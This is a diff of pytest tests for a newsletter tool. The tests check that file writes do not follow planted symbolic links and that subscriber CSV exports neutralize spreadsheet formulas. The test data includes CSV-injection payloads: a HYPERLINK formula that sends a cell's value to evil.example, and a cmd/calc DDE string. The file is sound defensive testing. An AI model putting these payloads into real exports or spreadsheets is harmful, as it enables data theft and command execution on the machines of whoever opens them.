@@ -146,3 +146,111 @@ def test_the_sites_log_is_redacted(settings, caplog) -> None:
         logging.getLogger("newsletter.web").warning("sign-up: postmark: HTTP 500: %s", f"token {TOKEN}")
     assert "sign-up: postmark: HTTP 500: token [redacted]" in caplog.text
     assert TOKEN not in caplog.text
+
+
+# -- files are never written through a symbolic link -------------------------------------------
+
+SLUG = "2026-11-mdma-assisted-therapy"
+
+
+def test_a_link_planted_under_the_temporary_name_is_never_opened(tmp_path: Path, monkeypatch) -> None:
+    from newsletter import files
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    folder = tmp_path / "build"
+    folder.mkdir()
+    # The attacker guessed the first random name: a link waits there.
+    (folder / ".email.html.aaaa.tmp").symlink_to(victim)
+    names = iter(["aaaa", "bbbb"])
+    monkeypatch.setattr(files.secrets, "token_hex", lambda n: next(names))
+    with files.atomic_write(folder / "email.html") as out:
+        out.write(b"<html>")
+    assert victim.read_text() == "precious"
+    assert (folder / "email.html").read_bytes() == b"<html>"
+    assert (folder / ".email.html.aaaa.tmp").is_symlink()  # left alone, not followed
+
+
+def test_a_link_at_the_target_is_replaced_not_followed(tmp_path: Path) -> None:
+    from newsletter.files import atomic_write
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    (tmp_path / "email.html").symlink_to(victim)
+    with atomic_write(tmp_path / "email.html") as out:
+        out.write(b"new")
+    assert victim.read_text() == "precious" and not (tmp_path / "email.html").is_symlink()
+
+
+def error_line(result) -> str:
+    assert result.exit_code == 1, result.output
+    assert "Traceback" not in result.output
+    return next(line for line in result.output.splitlines() if line.startswith("Error: "))
+
+
+@pytest.mark.parametrize("linked", ["build", f"build/{SLUG}"])
+def test_build_refuses_a_symlinked_build_folder(project: Path, tmp_path_factory, linked: str) -> None:
+    elsewhere = tmp_path_factory.mktemp("elsewhere")
+    (project / linked).parent.mkdir(parents=True, exist_ok=True)
+    (project / linked).symlink_to(elsewhere, target_is_directory=True)
+    line = error_line(CliRunner().invoke(app, ["build", ISSUE]))
+    assert f"{project / linked}: " in line and "is a symbolic link" in line
+    assert list(elsewhere.iterdir()) == []
+
+
+@pytest.mark.parametrize("linked", ["outbox", f"outbox/{SLUG}"])
+def test_the_outbox_refuses_a_symlinked_folder_and_sends_nothing(project: Path, settings, people, tmp_path_factory, linked: str) -> None:
+    elsewhere = tmp_path_factory.mktemp("elsewhere")
+    (project / linked).parent.mkdir(parents=True, exist_ok=True)
+    (project / linked).symlink_to(elsewhere, target_is_directory=True)
+    result = CliRunner().invoke(app, ["send", ISSUE])
+    line = error_line(result)
+    assert f"Error: outbox: {project / linked}: " in line and "is a symbolic link" in line
+    assert list(elsewhere.rglob("*")) == []
+    with sqlite3.connect(settings.database) as conn:
+        states = dict(conn.execute("SELECT state, COUNT(*) FROM deliveries GROUP BY state").fetchall())
+    assert states == {"pending": 29}  # nothing in doubt: the next run, without the link, sends them
+
+
+# -- exports never hold live spreadsheet formulas ----------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "'quoted already"]
+
+
+def test_an_export_neutralizes_formulas_and_imports_back_as_it_was(project: Path, settings) -> None:
+    conn = open_db(settings.database)
+    for i, name in enumerate(FORMULAS):
+        subscribers.add(conn, f"f{i}@example.com", source="test", first_name=name, last_name=name)
+    conn.close()
+    assert CliRunner().invoke(app, ["subscribers", "export", "out.csv"]).exit_code == 0
+    import csv
+
+    rows = list(csv.DictReader((project / "out.csv").open(encoding="utf-8", newline="")))
+    last_names = [r["last_name"] for r in rows]
+    assert last_names == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3], "'quoted already"]
+    assert all(not r["first_name"].startswith(("=", "+", "-", "@")) for r in rows)
+    # Into an empty list: the names come back exactly as they were.
+    fresh = project / "fresh.db"
+    from newsletter.lists.importer import import_file
+
+    conn = open_db(fresh)
+    import_file(conn, project / "out.csv")
+    got = dict(conn.execute("SELECT email, last_name FROM subscribers").fetchall())
+    conn.close()
+    assert [got[f"f{i}@example.com"] for i in range(len(FORMULAS))] == FORMULAS
+
+
+def test_the_rejected_rows_file_neutralizes_formulas(project: Path, settings) -> None:
+    (project / "in.csv").write_text('email,first_name\nnot-an-address,"=1+2"\n=cmd,x\n', encoding="utf-8")
+    CliRunner().invoke(app, ["subscribers", "import", "in.csv"])
+    text = (project / "in.rejected.csv").read_text(encoding="utf-8")
+    assert "'=1+2" in text and "'=cmd" in text
+    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(","))
+
+
+def test_tab_and_carriage_return_starts_are_neutralized_too() -> None:
+    from newsletter.lists.writer import neutralized, unneutralized
+
+    for cell in ("\t=1", "\r=1", "=1", "+1", "-1", "@1"):
+        assert neutralized(cell) == "'" + cell and unneutralized("'" + cell) == cell
+    assert neutralized("Ann") == "Ann" and neutralized(7) == 7 and unneutralized("'Ann") == "'Ann"
